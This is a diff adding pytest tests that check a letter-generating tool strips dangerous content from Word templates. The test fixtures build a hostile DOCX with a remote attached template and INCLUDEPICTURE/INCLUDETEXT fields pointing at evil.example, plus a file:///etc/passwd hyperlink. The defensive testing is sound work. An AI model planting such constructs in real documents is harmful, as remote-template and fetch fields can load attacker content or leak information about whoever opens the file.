@@ -497,3 +497,149 @@ def test_optional_columns_may_be_missing(tmp_path: Path) -> None:
     m = run_cli("check", str(path))
     assert m.code == 0, m.err
     assert 'warning: t.xlsx: Interviews!1:1: has no column "Notes"; it is treated as empty' in m.out
+
+
+_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _hostile_template(folder: Path) -> Path:
+    """A thank-you template with a remote attachedTemplate, INCLUDEPICTURE fields (simple and
+    complex), a file: hyperlink, and a plain https link that may stay."""
+    _template(
+        folder,
+        "{{ salutation }}",
+        "{{ opening }} {{ interest }}",
+        "{{ qualifications }}",
+        "{{ enclosure_sentence }}",
+        "{{ closing }}",
+        "Sincerely,",
+        "{{ sender_name }}",
+        "{{ enclosures_line }}",
+    )
+    path = folder / "thank_you_letter.docx"
+    with zipfile.ZipFile(path) as zf:
+        doc = zf.read("word/document.xml").decode("utf-8")
+        rels = zf.read("word/_rels/document.xml.rels").decode("utf-8")
+        settings = zf.read("word/settings.xml").decode("utf-8")
+    rels = rels.replace(
+        "</Relationships>",
+        f'<Relationship Id="rIdFile" Type="{_R}/hyperlink" Target="file:///etc/passwd" '
+        'TargetMode="External"/>'
+        f'<Relationship Id="rIdWeb" Type="{_R}/hyperlink" Target="https://acme.example/jobs" '
+        'TargetMode="External"/></Relationships>',
+    )
+    fields = (
+        "<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/p.png\" \\d '>"
+        "<w:r><w:t>pic</w:t></w:r></w:fldSimple></w:p>"
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE'
+        '</w:instrText></w:r><w:r><w:instrText>TEXT "http://evil.example/t.docx" </w:instrText>'
+        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        '<w:p><w:hyperlink r:id="rIdFile"><w:r><w:t>my files</w:t></w:r></w:hyperlink>'
+        '<w:hyperlink r:id="rIdWeb"><w:r><w:t>our jobs page</w:t></w:r></w:hyperlink></w:p>'
+    )
+    doc = doc.replace("<w:sectPr", fields + "<w:sectPr", 1)
+    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings)
+    if "xmlns:r=" not in settings.split(">", 2)[1]:
+        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{_R}" ', 1)
+    settings_rels = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rIdTpl" Type="{_R}/attachedTemplate" '
+        'Target="http://evil.example/normal.dotm" TargetMode="External"/></Relationships>'
+    )
+    rewrite(
+        path,
+        {
+            "word/document.xml": doc.encode("utf-8"),
+            "word/_rels/document.xml.rels": rels.encode("utf-8"),
+            "word/settings.xml": settings.encode("utf-8"),
+        },
+        extra={"word/_rels/settings.xml.rels": settings_rels.encode("utf-8")},
+    )
+    return folder
+
+
+def test_external_links_in_templates_are_left_out_with_a_warning(tmp_path: Path) -> None:
+    """Remote template, INCLUDEPICTURE/INCLUDETEXT and file: links never reach a letter."""
+    mine = _hostile_template(tmp_path / "mine")
+    path = book(tmp_path)
+    out = tmp_path / "out"
+    m = run_cli("run", str(path), "--today", TODAY, "--templates", str(mine), "--out", str(out))
+    assert m.code == 0, m.err[-3000:]
+    warned = [ln for ln in m.err.splitlines() if ln.startswith("warning: thank_you_letter.docx")]
+    assert warned == [
+        "warning: thank_you_letter.docx: left out of every letter: a hyperlink to a file or "
+        "another computer (file:///etc/passwd)",
+        "warning: thank_you_letter.docx: left out of every letter: a template attached from "
+        "elsewhere (http://evil.example/normal.dotm)",
+        "warning: thank_you_letter.docx: left out of every letter: a field that fetches "
+        'content (INCLUDEPICTURE "http://evil.example/p.png" \\d)',
+        "warning: thank_you_letter.docx: left out of every letter: a field that fetches "
+        'content (INCLUDETEXT "http://evil.example/t.docx")',
+    ]
+    for letter in out.glob("*.docx"):
+        with zipfile.ZipFile(letter) as zf:
+            blob = b"".join(zf.read(n) for n in zf.namelist())
+        assert b"evil.example" not in blob and b"file:///" not in blob, letter.name
+    (thanks,) = out.glob("* Thank-you — *.docx")
+    with zipfile.ZipFile(thanks) as zf:
+        assert b"https://acme.example/jobs" in zf.read("word/_rels/document.xml.rels")
+        assert b"my files" in zf.read("word/document.xml")
+
+
+def test_external_links_in_templates_are_refused_under_strict(tmp_path: Path) -> None:
+    """With --strict the same template stops the run before anything is written."""
+    mine = _hostile_template(tmp_path / "mine")
+    path = book(tmp_path)
+    before = path.read_bytes()
+    out = tmp_path / "out"
+    m = run_cli(
+        "run", str(path), "--today", TODAY, "--templates", str(mine), "--out", str(out), "--strict"
+    )
+    assert_refused(
+        m,
+        "Error: letter templates hold links to other computers or files, and --strict was "
+        "given:\nthank_you_letter.docx: a hyperlink to a file or another computer "
+        "(file:///etc/passwd)\n",
+        path,
+        before,
+    )
+    assert not out.exists()
+
+
+@pytest.mark.parametrize(
+    ("instr", "removed"),
+    [
+        (' HYPERLINK "file:///etc/passwd" ', True),
+        (" HYPERLINK \\\\\\\\server\\\\share\\\\x.docx ", True),
+        (' LINK Excel.Sheet.12 "C:\\\\a.xlsx" ', True),
+        (' HYPERLINK "https://acme.example" ', False),
+        (' HYPERLINK \\l "top" ', False),
+        (" PAGE ", False),
+    ],
+)
+def test_which_fields_are_removed(instr: str, removed: bool) -> None:
+    """Fields that fetch (or point at files) go; web links, bookmarks and page numbers stay."""
+    import io
+
+    from docx import Document
+
+    from followup_xl.docxsafe import strip_external
+
+    buf = io.BytesIO()
+    doc = Document()
+    doc.add_paragraph("x")
+    doc.save(buf)
+    data = buf.getvalue()
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        xml = zf.read("word/document.xml").decode("utf-8")
+    field = f'<w:p><w:fldSimple w:instr="{instr.replace(chr(34), "&quot;")}"/></w:p>'
+    xml = xml.replace("<w:sectPr", field + "<w:sectPr", 1)
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
+        for info in src.infolist():
+            body = xml.encode() if info.filename == "word/document.xml" else src.read(info)
+            dst.writestr(info, body)
+    cleaned = strip_external(out.getvalue())
+    assert bool(cleaned.removed) is removed, cleaned.removed
